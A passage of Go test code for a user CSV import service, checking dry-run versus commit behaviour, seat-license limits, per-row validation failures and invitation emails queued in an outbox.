			t.Fatalf("%v %s %+v", err, done.Status, done.Result)
		}
		failures, err := f.svc.FindImportFailures(owner, p.ID)
		if err != nil || len(failures) != 1 || failures[0].Line != 3 ||
			failures[0].Reason != "first@example.com is already pending in this organization." {
			t.Fatalf("failures: %v %+v", err, failures)
		}
		after, err := f.svc.Org(owner)
		if err != nil {
			t.Fatal(err)
		}
		if after.SeatsUsed != before.SeatsUsed+2 {
			t.Errorf("seats used %d, %d before the import; want 2 more", after.SeatsUsed, before.SeatsUsed)
		}
		for email, last := range map[string]string{"first@example.com": "One", "third@example.com": "Three"} {
			u, err := f.svc.FindUserByEmail(owner, email)
			if err != nil || u.Status != muster.StatusPending || u.LastName != last {
				t.Errorf("%s: %v %+v", email, err, u)
			}
		}
		var invitations int
		err = db.View(context.Background(), func(tx muster.Tx) error {
			msgs, err := tx.FindOutboxMessages(context.Background(), muster.OutboxFilter{OrgID: f.org.ID, Limit: 100})
			for _, m := range msgs {
				if m.Bulk && (m.To == "first@example.com" || m.To == "FIRST@example.com" || m.To == "third@example.com") {
					invitations++
				}
			}
			return err
		})
		if err != nil || invitations != 2 {
			t.Errorf("%d invitation emails (%v); want one each for the 2 people invited", invitations, err)
		}
	})
}

// TestPlanImportCommit: asked to commit, PlanImport queues a file it can
// commit in the same call; a file with errors or needing more seats than
// are free is kept as a dry run, NotCommitted saying why in the words the
// dry run gives, and nothing is applied.
func TestPlanImportCommit(t *testing.T) {
	t.Parallel()
	runStoresParallel(t, func(t *testing.T, db *sqlstore.DB) {
		f := setupImport(t, db, 8)
		owner := f.as(f.owner)
		commit := func(text string) *service.ImportPlan {
			t.Helper()
			return f.planInput(t, owner, service.ImportInput{FileName: "users.csv", File: strings.NewReader(text), Commit: true})
		}
		org, err := f.svc.Org(owner)
		if err != nil {
			t.Fatal(err)
		}

		bad := commit("Email,First Name,Last Name\nok@example.com,O,K\nnot-an-email,N,E\n")
		if bad.Status != muster.ImportPlanned || muster.ErrorCode(bad.NotCommitted) != muster.EINVALID ||
			muster.ErrorMessage(bad.NotCommitted) != bad.Committable() || !strings.Contains(bad.Committable(), "1 row has errors") {
			t.Fatalf("with an error: %s %v", bad.Status, bad.NotCommitted)
		}
		var rows strings.Builder
		rows.WriteString("Email,First Name,Last Name\n")
		for i := range org.LicenseTotal - org.SeatsUsed + 1 {
			fmt.Fprintf(&rows, "n%d@example.com,N,%d\n", i, i)
		}
		over := commit(rows.String())
		if over.Status != muster.ImportPlanned || muster.ErrorMessage(over.NotCommitted) != over.Summary.SeatsProblem ||
			!strings.Contains(over.Summary.SeatsProblem, "No licenses remaining for this file") {
			t.Fatalf("over the seats: %s %v", over.Status, over.NotCommitted)
		}
		for _, p := range []*service.ImportPlan{bad, over} {
			stored, err := f.svc.FindImport(owner, p.ID, false)
			if err != nil {
				t.Fatal(err)
			}
			if stored.Status != muster.ImportPlanned {
				t.Errorf("import %d: %s, want kept as a dry run", p.ID, stored.Status)
			}
		}

		good := commit("Email,First Name,Last Name,Primary Team\ngood@example.com,G,D,Sales\n")
		if good.NotCommitted != nil || good.Status != muster.ImportQueued || good.SeatsReserved != 1 || good.RowsTotal != 1 {
			t.Fatalf("committable: %s %v %+v", good.Status, good.NotCommitted, good.Import)
		}
		runImports(t, f.svc)
		done, err := f.svc.FindImport(owner, good.ID, false)
		if err != nil {
			t.Fatal(err)
		}
		if done.Status != muster.ImportDone || done.Result.Invited != 1 {
			t.Fatalf("applied: %s %+v", done.Status, done.Result)
		}
		after, err := f.svc.Org(owner)
		if err != nil {
			t.Fatal(err)
		}
		if after.SeatsUsed != org.SeatsUsed+1 {
			t.Errorf("seats used %d, want %d: only the committed file's invitation", after.SeatsUsed, org.SeatsUsed+1)
		}
	})
}
